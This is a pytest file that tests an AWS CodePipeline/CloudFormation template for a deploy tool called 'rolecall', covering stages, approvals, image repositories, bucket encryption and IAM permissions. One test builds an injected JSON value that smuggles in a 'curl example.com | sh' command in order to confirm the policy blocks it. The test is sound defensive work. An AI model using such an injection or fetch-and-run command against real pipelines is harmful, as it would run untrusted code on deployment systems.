"""The pipeline's template, synthesised: its stages, what they hand to rolecall, and its roles."""

from __future__ import annotations

import json
import re
from fnmatch import fnmatchcase

import pytest

from support import policies, templates
from support.templates import HUB, PIPELINE, TARGET_ROLE

ENVIRONMENTS = ("Dev", "Test", "Acceptance", "Production")
ALL_STAGES = {
    f"{name}Targets": f"{name.lower()}=arn:aws:iam::{number}:role/deploy"
    for name, number in zip(ENVIRONMENTS, ("2" * 12, "3" * 12, "4" * 12, "5" * 12), strict=True)
}


def synthesise(**parameters):
    return templates.synthesise("pipeline.yaml", HUB, **{**PIPELINE, **parameters})


def pipeline(**parameters):
    return synthesise(**parameters)["Pipeline"]["Properties"]


def stages(**parameters):
    return {stage["Name"]: stage for stage in pipeline(**parameters)["Stages"]}


def variables(stage):
    """What a stage's action sets, as CodePipeline reads it."""
    configuration = stage["Actions"][0]["Configuration"]
    return {
        each["name"]: each["value"] for each in json.loads(configuration["EnvironmentVariables"])
    }


def project_variables(**parameters):
    project = synthesise(**parameters)["DeployProject"]["Properties"]
    return {v["Name"]: v["Value"] for v in project["Environment"]["EnvironmentVariables"]}


def test_it_is_a_v2_pipeline_with_variables_and_an_execution_mode():
    found = pipeline(ExecutionMode="QUEUED")
    assert found["PipelineType"] == "V2"
    assert found["ExecutionMode"] == "QUEUED"
    assert pipeline()["ExecutionMode"] == "SUPERSEDED"
    assert {v["Name"]: v["DefaultValue"] for v in found["Variables"]} == {
        "on_failure": "stop",
        "log_level": "info",
    }


def test_two_releases_never_deploy_to_one_account_at_once():
    declared = templates.load("pipeline.yaml")["Parameters"]["ExecutionMode"]
    assert "PARALLEL" not in declared["AllowedValues"]


def test_the_stages_follow_the_environments_and_production_waits_for_a_person():
    assert list(stages(**ALL_STAGES)) == [
        "Source", "Image", "Dev", "Test", "Acceptance", "Approval", "Production",
    ]  # fmt: skip
    approval = stages(**ALL_STAGES)["Approval"]["Actions"][0]["ActionTypeId"]
    assert (approval["Category"], approval["Provider"]) == ("Approval", "Manual")


def test_an_environment_without_targets_has_no_stage_and_asks_for_no_approval():
    assert list(stages()) == ["Source", "Image", "Dev"]
    assert list(stages(TestTargets=TARGET_ROLE)) == ["Source", "Image", "Dev", "Test"]


@pytest.mark.parametrize("name", ENVIRONMENTS)
def test_a_stage_hands_its_targets_and_the_execution_to_rolecall(name):
    assert variables(stages(**ALL_STAGES)[name]) == {
        "ROLECALL_TARGETS": ALL_STAGES[f"{name}Targets"],
        "ROLECALL_EXECUTION_ID": "#{codepipeline.PipelineExecutionId}",
        "ROLECALL_ON_FAILURE": "#{variables.on_failure}",
        "ROLECALL_LOG_LEVEL": "#{variables.log_level}",
    }


def test_every_variable_that_an_action_refers_to_exists():
    found = pipeline(**ALL_STAGES)
    namespaces = {a["Namespace"] for s in found["Stages"] for a in s["Actions"] if "Namespace" in a}
    own = {f"variables.{v['Name']}" for v in found["Variables"]}
    references = json.dumps(found["Stages"]).split("#{")[1:]
    for reference in (each.split("}")[0] for each in references):
        known = reference in own or reference == "codepipeline.PipelineExecutionId"
        assert known or reference.split(".")[0] in namespaces, reference
    assert references


def test_a_stage_is_tried_once_more_by_itself_but_neither_production_nor_a_refusal():
    retried = {
        name: stage["OnFailure"]
        for name, stage in stages(**ALL_STAGES).items()
        if "OnFailure" in stage
    }
    again = {"Result": "RETRY", "RetryConfiguration": {"RetryMode": "FAILED_ACTIONS"}}
    assert retried == {"Dev": again, "Test": again, "Acceptance": again}


@pytest.mark.parametrize("name", ENVIRONMENTS)
def test_targets_are_on_one_line_since_a_line_end_breaks_the_actions_variables(name):
    pattern = templates.load("pipeline.yaml")["Parameters"][f"{name}Targets"]["AllowedPattern"]
    one, two = ALL_STAGES["DevTargets"], ALL_STAGES["TestTargets"]
    assert re.fullmatch(pattern, f"{one}, {two} ssm:/targets")
    for between in ("\n", "\r\n", "\t"):
        broken = {**ALL_STAGES, f"{name}Targets": f"{one}{between}{two}"}
        assert not re.fullmatch(pattern, broken[f"{name}Targets"])
        with pytest.raises(json.JSONDecodeError):
            variables(stages(**broken)[name])


def test_what_all_stages_share_is_in_the_project():
    assert project_variables() == {}
    commands = 'set -x\naws s3 sync dist "s3://site-$ROLECALL_TARGET"'
    assert project_variables(Commands=commands, AllowedAccounts="2" * 12, ExternalId="4711") == {
        "ROLECALL_COMMANDS": commands,
        "ROLECALL_ALLOWED_ACCOUNTS": "2" * 12,
        "ROLECALL_EXTERNAL_ID": "4711",
    }


def test_what_succeeded_is_remembered_in_the_artifact_bucket_where_that_is_asked_for():
    assert project_variables(RememberSuccess="yes") == {
        "ROLECALL_STATE": "s3://<ArtifactBucket>/state"
    }
    stage = variables(stages(**ALL_STAGES)["Dev"])
    assert stage["ROLECALL_EXECUTION_ID"] == "#{codepipeline.PipelineExecutionId}"


def test_deploys_run_in_the_image_that_the_pipeline_built():
    resources = synthesise()
    project = resources["DeployProject"]["Properties"]
    assert project["Source"]["BuildSpec"] == "buildspec.yml"
    assert project["ServiceRole"] == f"arn:aws:iam::{HUB}:role/rolecall-codebuild"
    environment = project["Environment"]
    assert environment["Image"] == "<Repository.RepositoryUri>:latest"
    assert environment["ImagePullCredentialsType"] == "SERVICE_ROLE"
    assert "PrivilegedMode" not in environment
    image = resources["ImageProject"]["Properties"]
    assert image["Source"]["BuildSpec"] == "pipeline/buildspec-image.yml"
    assert image["Environment"]["PrivilegedMode"] == "true"
    assert image["Environment"]["EnvironmentVariables"] == [
        {"Name": "REPOSITORY_URI", "Value": "<Repository.RepositoryUri>"}
    ]


def test_a_tag_can_pin_the_image_and_only_latest_can_move():
    resources = synthesise(ImageTag="1.2.3")
    image = resources["DeployProject"]["Properties"]["Environment"]["Image"]
    assert image == "<Repository.RepositoryUri>:1.2.3"
    repository = resources["Repository"]["Properties"]
    assert repository["ImageTagMutability"] == "IMMUTABLE_WITH_EXCLUSION"
    assert [
        each["ImageTagMutabilityExclusionFilterValue"]
        for each in repository["ImageTagMutabilityExclusionFilters"]
    ] == ["latest"]


def test_images_are_scanned_and_old_ones_go():
    repository = synthesise()["Repository"]["Properties"]
    assert repository["ImageScanningConfiguration"] == {"ScanOnPush": "true"}
    rules = json.loads(repository["LifecyclePolicy"]["LifecyclePolicyText"])["rules"]
    assert [rule["selection"]["tagStatus"] for rule in rules] == ["untagged", "any"]


def test_artifacts_are_encrypted_private_and_sent_over_tls_only():
    resources = synthesise()
    bucket = resources["ArtifactBucket"]["Properties"]
    assert set(bucket["PublicAccessBlockConfiguration"].values()) == {"true"}
    encryption = bucket["BucketEncryption"]["ServerSideEncryptionConfiguration"][0]
    assert encryption["ServerSideEncryptionByDefault"]["KMSMasterKeyID"] == "<Key.Arn>"
    assert resources["Key"]["Properties"]["EnableKeyRotation"] == "true"
    assert pipeline()["ArtifactStore"]["EncryptionKey"] == {"Type": "KMS", "Id": "<Key.Arn>"}
    denied = resources["ArtifactBucketPolicy"]["Properties"]["PolicyDocument"]["Statement"][0]
    assert (denied["Effect"], denied["Condition"]) == (
        "Deny",
        {"Bool": {"aws:SecureTransport": "false"}},
    )


def test_a_failure_is_mailed():
    resources = synthesise(NotificationEmail="team@example.com")
    rule = resources["Notifications"]["Properties"]
    assert "codepipeline-pipeline-pipeline-execution-failed" in rule["EventTypeIds"]
    assert "codepipeline-pipeline-manual-approval-needed" in rule["EventTypeIds"]
    assert rule["Targets"] == [{"TargetType": "SNS", "TargetAddress": "<Topic>"}]
    assert resources["Topic"]["Properties"]["Subscription"] == [
        {"Protocol": "email", "Endpoint": "team@example.com"}
    ]
    publish = resources["TopicPolicy"]["Properties"]["PolicyDocument"]["Statement"][0]
    assert publish["Principal"] == {"Service": "codestar-notifications.amazonaws.com"}


def statements(role):
    policy = synthesise()[role.replace("Role", "Policy")]["Properties"]
    assert policy["Roles"] == [f"<{role}>"]
    return policy["PolicyDocument"]["Statement"]


def allowed(role, action):
    """The resources on which a role of the template may do this."""
    return [
        s["Resource"]
        for s in statements(role)
        for each in ([s["Action"]] if isinstance(s["Action"], str) else s["Action"])
        if fnmatchcase(action, each)
    ]


def test_no_role_of_the_pipeline_itself_reaches_a_workload_account():
    for role in ("ImageRole", "PipelineRole"):
        assert allowed(role, "sts:AssumeRole") == []
        assert allowed(role, "iam:PassRole") == []
    assert allowed("PipelineRole", "codebuild:StartBuild") == [
        [f"arn:aws:codebuild:eu-central-1:{HUB}:project/rolecall-{p}" for p in ("image", "deploy")]
    ]


BUCKET = "<ArtifactBucket.Arn>"
SERVICE_ROLE = f"arn:aws:iam::{HUB}:role/rolecall-codebuild"


def writes(principal, key):
    """What the bucket's policy says where a principal puts an object."""
    document = synthesise()["ArtifactBucketPolicy"]["Properties"]["PolicyDocument"]
    keys = {"aws:PrincipalArn": principal, "aws:SecureTransport": "true"}
    return policies.effect(document, action="s3:PutObject", resource=f"{BUCKET}/{key}", keys=keys)


@pytest.mark.parametrize(
    "principal", [SERVICE_ROLE, "<ImageRole.Arn>", f"arn:aws:iam::{HUB}:role/Administrator"]
)
def test_whatever_a_principal_is_allowed_the_pipeline_alone_writes_the_source(principal):
    assert writes(principal, "rolecall/Source/a1b2c3d") == "Deny"
    assert writes("<PipelineRole.Arn>", "rolecall/Source/a1b2c3d") == ""
    assert writes(principal, "rolecall/ReportDev/a1b2c3d") == ""


@pytest.mark.parametrize("principal", [SERVICE_ROLE, "<ImageRole.Arn>", "<PipelineRole.Arn>"])
def test_whatever_they_are_allowed_no_build_writes_what_a_fleet_deploys(principal):
    assert writes(principal, "fleet/source.zip") == "Deny"
    assert writes(principal, "fleet/source-2.zip") == "Deny"
    assert writes(f"arn:aws:iam::{HUB}:role/release", "fleet/source.zip") == ""
    assert writes(SERVICE_ROLE, "fleet/runs/one/report.json") == ""


def test_what_builds_images_reads_the_source_and_writes_no_artifact():
    source = f"{BUCKET}/rolecall/Source/*"
    assert allowed("ImageRole", "s3:GetObject") == [source]
    assert allowed("ImageRole", "s3:PutObject") == []
    assert allowed("ImageRole", "kms:GenerateDataKey") == []
    assert allowed("PipelineRole", "s3:PutObject") == [f"{BUCKET}/rolecall/*"]
    assert "OutputArtifacts" not in stages()["Image"]["Actions"][0]


def test_every_artifact_is_one_that_its_writer_may_write():
    for name, stage in stages(**ALL_STAGES).items():
        for artifact in stage["Actions"][0].get("OutputArtifacts", []):
            # CodePipeline cuts names to ten characters in their keys.
            prefix = artifact["Name"][:10]
            assert prefix == "Source" if name == "Source" else prefix.startswith("Report")


@pytest.mark.parametrize("project", ["image", "deploy"])
@pytest.mark.parametrize("override", templates.OVERRIDES)
def test_the_pipeline_starts_builds_as_their_project_says_alone(project, override):
    document = {"Statement": statements("PipelineRole")}
    call = {
        "action": "codebuild:StartBuild",
        "resource": f"arn:aws:codebuild:eu-central-1:{HUB}:project/rolecall-{project}",
    }
    assert policies.effect(document, **call, keys={}) == "Allow"
    assert policies.effect(document, **call, keys={override: "other"}) == ""


def test_a_variable_of_the_pipeline_with_a_quote_in_it_adds_none_to_a_stage():
    document = {"Statement": statements("PipelineRole")}
    stage = stages(**ALL_STAGES)["Dev"]["Actions"][0]["Configuration"]["EnvironmentVariables"]
    quoted = 'stop"}, {"name": "ROLECALL_COMMANDS", "value": "curl example.com | sh'
    for given, wanted in (("stop", "Allow"), (quoted, "")):
        read = json.loads(stage.replace("#{variables.on_failure}", given))
        names = [each["name"] for each in read]
        found = policies.effect(
            document,
            action="codebuild:StartBuild",
            resource=f"arn:aws:codebuild:eu-central-1:{HUB}:project/rolecall-deploy",
            keys={"codebuild:environment.environmentVariables.name": names},
        )
        assert found == wanted, names


def test_what_builds_images_pushes_to_its_own_repository_alone():
    assert allowed("ImageRole", "ecr:PutImage") == ["<Repository.Arn>"]
    assert allowed("PipelineRole", "ecr:PutImage") == []
    assert [s["Sid"] for s in statements("ImageRole") if s["Resource"] == "*"] == [
        "LogInToTheRegistry"
    ]


def test_the_names_are_those_that_the_service_role_has_permissions_for():
    source = templates.synthesise("source-role.yaml", HUB, TargetRoleArns=TARGET_ROLE)
    document = source["RunBuilds"]["Properties"]["PolicyDocument"]
    text = json.dumps(document)
    resources = synthesise()
    names = [
        resources["ArtifactBucket"]["Properties"]["BucketName"],
        resources["KeyAlias"]["Properties"]["AliasName"],
        f"repository/{resources['Repository']['Properties']['RepositoryName']}",
        resources["DeployLogs"]["Properties"]["LogGroupName"],
        f"report-group/{resources['DeployProject']['Properties']['Name']}-*",
    ]
    for name in names:
        assert name in text
    own = source["SourceRole"]["Properties"]["AssumeRolePolicyDocument"]["Statement"][0]
    assert f"project/{resources['DeployProject']['Properties']['Name']}" in json.dumps(own)
